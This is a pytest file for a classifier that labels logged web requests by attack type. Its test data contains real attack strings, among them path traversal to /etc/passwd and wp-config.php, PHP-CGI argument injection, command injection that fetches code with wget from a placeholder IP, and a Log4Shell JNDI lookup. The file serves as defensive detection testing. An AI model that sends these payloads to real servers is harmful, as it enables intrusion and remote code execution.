from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from logged import machine_with_sessions, request
from pratique.inventory.web_attempt import WebAttempt

AT = "2026-11-03 02:10:00"


def kinds(target, **told):
    with machine_with_sessions(request(AT, told.pop("method", "GET"), target, **told)) as tables:
        return [set(row.kinds) for row in tables.rows(WebAttempt)]


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "traversal"),
        ("/page.php?f=../../../etc/passwd", "traversal"),
        ("/page.php?f=..%2f..%2fwp-config.php", "traversal"),
        ("/page.php?f=php://filter/convert.base64-encode/resource=x", "wrapper"),
        ("/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "setting"),
        ("/index.php?s=/index/think/app/invokefunction", "function"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "function"),
        ("/ping?host=1;wget%20http://192.0.2.1/x", "shell"),
        ("/luci/;stok=/locale?country=$(id)", "shell"),
        ("/item?id=1%20UNION%20SELECT%201,2", "statement"),
        ("/x.php?cmd=id", "command"),
        ("/x.php?a=1&c=aWQ=", "command"),
    ],
)
def test_forms_of_attacks(target, kind):
    [found] = kinds(target)
    assert kind in found


@pytest.mark.parametrize(
    "target",
    ["/", "/style.css?ver=6.4.3", "/search?q=identity;catalogue", "/a..b/", "/?s=select+a+union",
     "/wp-admin/admin-ajax.php?action=heartbeat", "/forum/viewtopic.php?t=12&start=20"],
)  # fmt: skip
def test_what_people_ask_for(target):
    assert kinds(target) == []


def test_what_is_brought_along_in_other_fields():
    assert kinds("/", agent="<?php echo 1;") == [{"code"}]
    assert kinds("/", agent="${jndi:ldap://192.0.2.1/a}") == [{"lookup"}]
    assert kinds("/", user="<?= 1 ?>") == [{"code"}]
    assert kinds("/x.txt", method="PUT") == [{"writes"}]


@settings(max_examples=30, deadline=None)
@given(st.text(max_size=200), st.text(max_size=100))
def test_any_text_is_answered(target, agent):
    assert len(kinds(target.replace("\0", ""), agent=agent.replace("\0", ""))) <= 1
